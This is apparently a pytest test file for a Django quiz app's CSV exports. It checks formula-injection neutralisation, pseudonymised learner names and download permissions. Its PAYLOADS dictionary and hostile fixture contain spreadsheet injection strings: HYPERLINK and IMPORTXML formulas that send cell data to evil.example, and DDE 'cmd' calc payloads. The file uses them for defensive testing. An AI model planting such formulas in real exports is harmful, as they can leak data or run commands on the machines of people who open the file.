"""CSV exports: a quiz's attempts, every learner's progress, and the learner's own data export.
No cell may start a spreadsheet formula; only educators download the admin exports, and only
those with the permission to see learners' identities get usernames — the others get stable
pseudonyms and the same numbers."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from civics.progress.models import ActionTick
from quizzes.models import Answer, Attempt, Slot
from tests.factories import ActionItemFactory, StaffUserFactory, UserFactory

from .factories import T0, ChoiceFactory, QuestionFactory, QuizFactory

pytestmark = pytest.mark.django_db

User = get_user_model()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def attempt(quiz, questions, points, *, user=None, token="", minute=0, state="finished", **extra):
    started = T0 + dt.timedelta(minutes=minute)
    row = Attempt.objects.create(
        quiz=quiz,
        user=user,
        anonymous_token=token,
        mode=quiz.mode,
        state=state,
        seed=1,
        started_at=started,
        finished_at=started + dt.timedelta(minutes=3) if state == "finished" else None,
        **extra,
    )
    for position, (question, score) in enumerate(zip(questions, points, strict=True), start=1):
        Slot.objects.create(attempt=row, question=question, position=position)
        if score is not None:
            Answer.objects.create(
                attempt=row,
                question=question,
                points=score,
                is_correct=score == 1,
                answered_at=started,
            )
    return row


def grant_identities(user) -> None:
    """Give one account, not its group, the permission to see learners' identities."""
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="quizzes", codename="view_learner_results")
    )


@pytest.fixture
def identified_client(db):
    """A client signed in as an educator granted the permission to see learners' identities."""
    user = StaffUserFactory(username="head-teacher")
    user.groups.add(Group.objects.get(name="Educators"))
    grant_identities(user)
    client = Client()
    client.force_login(user)
    return client


def pseudonym(username: str) -> str:
    return f"learner {User.objects.get(username=username).pk}"


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula_cells(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{where}: formula cell {cell!r}"


# --- Results of one quiz -----------------------------------------------------------------------


@pytest.fixture
def results():
    quiz = QuizFactory(title="Civics basics", slug="civics-basics", pass_mark=70)
    questions = [QuestionFactory(quiz=quiz, order=i) for i in range(3)]
    alice, bob = UserFactory(username="alice"), UserFactory(username="bob")
    first = attempt(quiz, questions, [1, 1, 0], user=alice, minute=1)
    attempt(quiz, questions, [1, 1, 1], user=bob, minute=2)
    attempt(quiz, questions, [1, None, None], token="anon", minute=3)
    attempt(quiz, questions, [0, 0, 0], user=alice, minute=4, state="abandoned")
    attempt(quiz, questions, [1, 1, 1], user=alice, minute=5, retry_of=first)
    attempt(quiz, questions, [1, 0.5, 1], user=bob, minute=6, is_review=True)
    attempt(quiz, questions, [1, 1, 1], user=bob, minute=7, state="in_progress")
    attempt(QuizFactory(), [QuestionFactory()], [1], user=alice, minute=8)  # another quiz
    return quiz


def test_results_csv_lists_each_finished_or_abandoned_attempt_of_the_quiz(
    identified_client, results
):
    response = identified_client.get(f"/admin/quizzes/quiz/{results.pk}/results.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="civics-basics-results.csv"'
    rows = read_csv(response.content.decode("utf-8"))
    assert rows[0] == ["learner", "state", "kind", "started", "finished", "score %", "passed"]
    assert rows[1] == [
        "alice",
        "Finished",
        "quiz",
        (T0 + dt.timedelta(minutes=1)).isoformat(),
        (T0 + dt.timedelta(minutes=4)).isoformat(),
        "66.7",
        "no",
    ]
    assert [(r[0], r[1], r[2], r[5], r[6]) for r in rows[1:]] == [
        ("alice", "Finished", "quiz", "66.7", "no"),
        ("bob", "Finished", "quiz", "100.0", "yes"),
        ("(anonymous)", "Finished", "quiz", "33.3", "no"),
        ("alice", "Abandoned", "quiz", "0.0", "no"),
        ("alice", "Finished", "retry", "100.0", "yes"),
        ("bob", "Finished", "review", "83.3", "yes"),
    ]
    assert rows[4][4] == ""  # an abandoned attempt has no finish time


def test_the_progress_csv_gives_each_learner_their_quizzes(identified_client, results):
    other = QuizFactory(title="Budget basics", pass_mark=50)
    question = QuestionFactory(quiz=other)
    alice = User.objects.get(username="alice")
    attempt(other, [question], [0], user=alice, minute=20)
    attempt(other, [question], [1], user=alice, minute=21)

    response = identified_client.get("/admin/quizzes/quiz/learner-progress.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="learner-progress.csv"'
    rows = read_csv(response.content.decode("utf-8"))
    assert rows[0] == [
        "learner",
        "quiz",
        "attempts",
        "best %",
        "latest %",
        "passed",
        "last finished",
    ]
    table = {(r[0], r[1]): r[2:] for r in rows[1:]}
    assert table[("alice", "Civics basics")][:4] == ["1", "66.7", "66.7", "no"]
    assert table[("alice", "Budget basics")] == [
        "2",
        "100.0",
        "100.0",
        "yes",
        (T0 + dt.timedelta(minutes=24)).isoformat(),
    ]
    assert table[("bob", "Civics basics")][:4] == ["1", "100.0", "100.0", "yes"]
    assert not [r for r in rows if r[0] == "(anonymous)" or r[0] == "anon"]


# --- Formula injection -------------------------------------------------------------------------


@pytest.fixture
def hostile(results):
    """Usernames and a quiz title that start formulas (a username can hold them in the DB)."""
    questions = list(results.questions.all())
    learners = []
    for index, payload in enumerate(PAYLOADS.values()):
        user = User.objects.create(username=payload, email=f"h{index}@example.org")
        attempt(results, questions, [1, 1, 1], user=user, minute=30 + index)
        learners.append(user)
    results.title = '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")'
    results.save()
    return results


def test_results_csv_neutralises_every_formula_start(identified_client, hostile):
    text = identified_client.get(f"/admin/quizzes/quiz/{hostile.pk}/results.csv").content
    rows = read_csv(text.decode("utf-8"))

    assert_no_formula_cells(rows, "results.csv")
    learners = [row[0] for row in rows[1:]]
    for payload in PAYLOADS.values():
        assert "'" + payload in learners


def test_progress_csv_neutralises_every_formula_start(identified_client, hostile):
    text = identified_client.get("/admin/quizzes/quiz/learner-progress.csv").content
    rows = read_csv(text.decode("utf-8"))

    assert_no_formula_cells(rows, "learner-progress.csv")
    assert {"'" + p for p in PAYLOADS.values()} <= {row[0] for row in rows[1:]}
    assert "'" + hostile.title in {row[1] for row in rows[1:]}


def test_the_learners_data_export_neutralises_every_formula_start(client):
    learner = UserFactory(username="careful")
    quiz = QuizFactory(slug="plain-quiz")
    chosen = QuestionFactory(quiz=quiz, type="single", title=PAYLOADS["@"], order=1)
    choice = ChoiceFactory(question=chosen, text=PAYLOADS["-"], fraction=0)
    typed = QuestionFactory(quiz=quiz, type="short", title="Typed", order=2)
    row = attempt(quiz, [chosen, typed], [0, None], user=learner)
    Answer.objects.get(attempt=row, question=chosen).choices.set([choice])
    Answer.objects.create(
        attempt=row, question=typed, text=PAYLOADS["="], points=0, is_correct=False, answered_at=T0
    )
    for payload in PAYLOADS.values():
        action = ActionItemFactory(text=PAYLOADS["+"], link="https://example.org")
        ActionTick.objects.create(user=learner, action=action, note=payload, ticked_at=T0)
    client.force_login(learner)

    response = client.get("/account/export/")

    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"attempts.csv", "answers.csv", "checklist.csv"} <= set(names)
    cells = set()
    for name in names:
        rows = read_csv(archive.read(name).decode("utf-8"))
        assert_no_formula_cells(rows, name)
        cells |= {cell for row in rows for cell in row}
    notes = {"'" + payload for payload in PAYLOADS.values()}
    assert notes <= cells  # every note, neutralised
    assert "'" + PAYLOADS["+"] in cells  # the action's text
    assert "'" + PAYLOADS["@"] in cells  # the question's title
    assert "'" + PAYLOADS["-"] in cells  # the choice picked
    assert "'" + PAYLOADS["="] in cells  # the answer typed


# --- Learners' identities -----------------------------------------------------------------


RESULTS_URL = "/admin/quizzes/quiz/{pk}/results.csv"
PROGRESS_URL = "/admin/quizzes/quiz/learner-progress.csv"


def download(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    return read_csv(response.content.decode("utf-8"))


def named_by_pseudonym(rows: list[list[str]]) -> list[list[str]]:
    """Rows of an export with usernames, as an educator without the permission should see them."""
    names = {user.username: f"learner {user.pk}" for user in User.objects.all()}
    return [rows[0]] + [[names.get(row[0], row[0]), *row[1:]] for row in rows[1:]]


def test_without_the_permission_the_results_csv_has_pseudonyms_and_the_same_numbers(
    educator_client, identified_client, results
):
    url = RESULTS_URL.format(pk=results.pk)

    pseudonymous = download(educator_client, url)
    identified = download(identified_client, url)

    assert [row[0] for row in pseudonymous[1:]] == [
        pseudonym("alice"),
        pseudonym("bob"),
        "(anonymous)",
        pseudonym("alice"),
        pseudonym("alice"),
        pseudonym("bob"),
    ]
    names = ["alice", "bob", "(anonymous)", "alice", "alice", "bob"]
    assert [row[0] for row in identified[1:]] == names
    assert pseudonymous == named_by_pseudonym(identified)


def test_without_the_permission_the_progress_csv_has_pseudonyms_and_the_same_numbers(
    educator_client, identified_client, results
):
    pseudonymous = download(educator_client, PROGRESS_URL)
    identified = download(identified_client, PROGRESS_URL)

    assert {row[0] for row in pseudonymous[1:]} == {pseudonym("alice"), pseudonym("bob")}
    assert {row[0] for row in identified[1:]} == {"alice", "bob"}
    assert len(pseudonymous) == len(identified) > 2
    assert sorted(pseudonymous) == sorted(named_by_pseudonym(identified))


def test_a_pseudonym_is_the_same_in_both_exports_and_in_a_later_download(educator_client, results):
    url = RESULTS_URL.format(pk=results.pk)
    before = download(educator_client, url)
    # A learner whose name sorts first joins, and everyone keeps their pseudonym.
    aaron = UserFactory(username="aaron")
    attempt(results, list(results.questions.all()), [1, 1, 1], user=aaron, minute=40)

    after = download(educator_client, url)
    progress = download(educator_client, PROGRESS_URL)

    assert after[: len(before)] == before
    assert after[len(before)][0] == f"learner {aaron.pk}"
    in_results = {row[0] for row in after[1:]} - {"(anonymous)"}
    assert {row[0] for row in progress[1:]} == in_results
    assert in_results == {pseudonym("alice"), pseudonym("bob"), pseudonym("aaron")}


def test_pseudonymous_progress_rows_follow_accounts_not_usernames(
    educator_client, identified_client, results
):
    zoe, aaron = UserFactory(username="zoe"), UserFactory(username="aaron")
    for user in (zoe, aaron):
        attempt(results, list(results.questions.all()), [1, 0, 1], user=user, minute=40)
    civics = str(results.title)

    pseudonymous = download(educator_client, PROGRESS_URL)
    identified = download(identified_client, PROGRESS_URL)

    assert [row[0] for row in pseudonymous[1:] if row[1] == civics] == [
        pseudonym(name) for name in ["alice", "bob", "zoe", "aaron"]
    ]
    assert [row[0] for row in identified[1:] if row[1] == civics] == [
        "aaron",
        "alice",
        "bob",
        "zoe",
    ]


def test_two_quizzes_with_the_same_title_keep_their_own_progress_rows(identified_client, results):
    twin = QuizFactory(title=results.title)
    attempt(twin, [QuestionFactory(quiz=twin)], [0], user=User.objects.get(username="bob"))

    rows = download(identified_client, PROGRESS_URL)

    bobs = sorted(row[2:6] for row in rows[1:] if row[:2] == ["bob", results.title])
    assert bobs == [["1", "0.0", "0.0", "no"], ["1", "100.0", "100.0", "yes"]]


def test_granting_the_permission_to_an_educator_shows_them_usernames(educator_client, results):
    url = RESULTS_URL.format(pk=results.pk)
    assert "alice" not in educator_client.get(url).content.decode()

    grant_identities(User.objects.get(username="teacher"))

    assert "alice" in educator_client.get(url).content.decode()
    assert "alice" in educator_client.get(PROGRESS_URL).content.decode()


def test_pseudonymous_exports_show_no_hostile_username_and_no_formula(educator_client, hostile):
    for url in (RESULTS_URL.format(pk=hostile.pk), PROGRESS_URL):
        rows = download(educator_client, url)

        assert_no_formula_cells(rows, url)
        learners = {row[0] for row in rows[1:]}
        assert learners == {
            f"learner {user.pk}" for user in User.objects.filter(attempts__quiz=hostile)
        } | ({"(anonymous)"} if url != PROGRESS_URL else set())


def test_a_pseudonymous_export_does_not_read_learners_usernames(educator_client, results):
    for url in (RESULTS_URL.format(pk=results.pk), PROGRESS_URL):
        with CaptureQueriesContext(connection) as queries:
            download(educator_client, url)

        reads = [q["sql"] for q in queries.captured_queries if "quizzes_attempt" in q["sql"]]
        assert reads, url
        assert not [sql for sql in reads if "username" in sql], url


def test_the_quiz_pages_tell_an_educator_without_the_permission_about_pseudonyms(
    educator_client, identified_client, results
):
    note = "Learners appear as pseudonyms"
    pages = ["/admin/quizzes/quiz/", f"/admin/quizzes/quiz/{results.pk}/change/"]

    for page in pages:
        assert note in educator_client.get(page).content.decode(), page
        assert note not in identified_client.get(page).content.decode(), page


# --- Who may download ------------------------------------------------------------------------


EXPORTS = ["results", "progress"]


def export_url(name: str, quiz) -> str:
    if name == "results":
        return f"/admin/quizzes/quiz/{quiz.pk}/results.csv"
    return "/admin/quizzes/quiz/learner-progress.csv"


@pytest.mark.parametrize("name", EXPORTS)
def test_an_anonymous_visitor_is_sent_to_log_in(client, results, name):
    url = export_url(name, results)

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/?next=")
    assert "alice" not in response.content.decode()


@pytest.mark.parametrize("name", EXPORTS)
def test_a_learner_cannot_download(client, results, name):
    client.force_login(User.objects.get(username="alice"))

    response = client.get(export_url(name, results))

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert "text/csv" not in response.get("Content-Type", "")


@pytest.mark.parametrize("name", EXPORTS)
def test_staff_without_the_educator_role_cannot_download(client, results, name):
    client.force_login(StaffUserFactory())

    response = client.get(export_url(name, results))

    assert response.status_code == 403


@pytest.mark.parametrize("name", EXPORTS)
def test_an_educator_with_the_permission_downloads_with_usernames(identified_client, results, name):
    response = identified_client.get(export_url(name, results))

    assert response.status_code == 200
    assert "alice" in response.content.decode()


@pytest.mark.parametrize("name", EXPORTS)
def test_an_educator_without_the_permission_downloads_with_pseudonyms(
    educator_client, results, name
):
    response = educator_client.get(export_url(name, results))

    assert response.status_code == 200
    text = response.content.decode()
    assert pseudonym("alice") in text
    assert "alice" not in text
    assert "bob" not in text


@pytest.mark.parametrize("name", EXPORTS)
def test_a_superuser_has_the_permission_without_being_granted_it(client, results, name):
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))

    response = client.get(export_url(name, results))

    assert "alice" in response.content.decode()


def test_the_quiz_list_and_page_link_to_the_exports(educator_client, results):
    listing = educator_client.get("/admin/quizzes/quiz/").content.decode()
    page = educator_client.get(f"/admin/quizzes/quiz/{results.pk}/change/").content.decode()

    assert 'href="/admin/quizzes/quiz/learner-progress.csv"' in listing
    assert f'href="/admin/quizzes/quiz/{results.pk}/results.csv"' in page
